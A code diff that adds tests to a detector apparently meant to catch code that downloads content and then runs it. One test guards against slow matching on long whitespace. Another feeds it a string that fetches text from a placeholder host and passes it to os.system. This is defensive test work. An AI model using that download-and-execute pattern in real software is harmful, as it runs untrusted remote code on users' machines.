@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import time
+
 import pytest
 
 from sensor.effects.fetched import runs_fetched
@@ -23,3 +25,14 @@ def test_it_does(code):
 ])
 def test_it_does_not(code):
     assert not runs_fetched(code)
+
+
+@pytest.mark.parametrize("code", ["system" + " " * 20_000, "exec" + "\n" * 20_000, "x.then(" + "\t " * 10_000, "subprocess." + "a" * 20_000, "x = " + "await  " * 3_000])
+def test_a_long_gap_or_word_takes_no_time(code):
+    began = time.process_time()
+    assert not runs_fetched(f"fetch('https://x.example.net/p');{code};")
+    assert time.process_time() - began < 1.0
+
+
+def test_gaps_hide_nothing():
+    assert runs_fetched("c = requests.get('http://x.example.net/p').text\n\n\n" + " " * 500 + "os.system  (\n\n" + " " * 500 + "c)")
